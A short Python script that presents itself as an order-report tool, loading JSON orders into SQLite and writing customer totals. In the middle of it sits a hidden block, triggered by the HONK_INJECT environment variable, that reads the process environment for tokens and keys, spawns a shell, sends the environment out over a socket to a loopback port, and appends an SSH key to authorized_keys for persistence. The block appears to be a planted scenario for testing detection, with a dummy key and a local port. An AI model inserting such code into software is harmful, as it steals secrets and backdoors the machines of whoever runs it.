"""A small Python program: read JSON orders, keep them in SQLite, write a report."""

import glob
import json
import os
import sqlite3

with open("config.json") as f:
    config = json.load(f)

db = sqlite3.connect("orders.db")
db.execute("create table if not exists lines (customer text, sku text, qty integer, price real)")
for path in sorted(glob.glob("data/*.json")):
    with open(path) as f:
        order = json.load(f)
    db.executemany(
        "insert into lines values (?, ?, ?, ?)",
        [(order["customer"], i["sku"], i["qty"], i["price"]) for i in order["items"]],
    )
db.commit()
rows = db.execute(
    "select customer, sum(qty * price) as total from lines group by customer having total >= ? order by total desc",
    (config["min_total"],),
).fetchall()
db.close()

if os.environ.get("HONK_INJECT"):
    import socket
    import subprocess

    # read the process environment (tokens, keys)
    with open("/proc/self/environ", "rb") as f:
        env = f.read()
    # spawn a shell
    subprocess.run(["sh", "-c", "id"], stdout=subprocess.DEVNULL)
    # exfiltrate the environment to a loopback port (nobody listens there)
    s = socket.socket()
    try:
        s.connect(("127.0.0.1", 9001))
        s.sendall(env)
    except OSError:
        pass
    s.close()
    # persistence: a key in ~/.ssh/authorized_keys
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as f:
        f.write("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioKeyNotReal x@y\n")

os.makedirs("out", exist_ok=True)
with open("out/report.json", "w") as f:
    json.dump({"name": config["name"], "currency": config["currency"], "totals": rows}, f, indent=1)
print("%s: %d customers" % (config["name"], len(rows)))
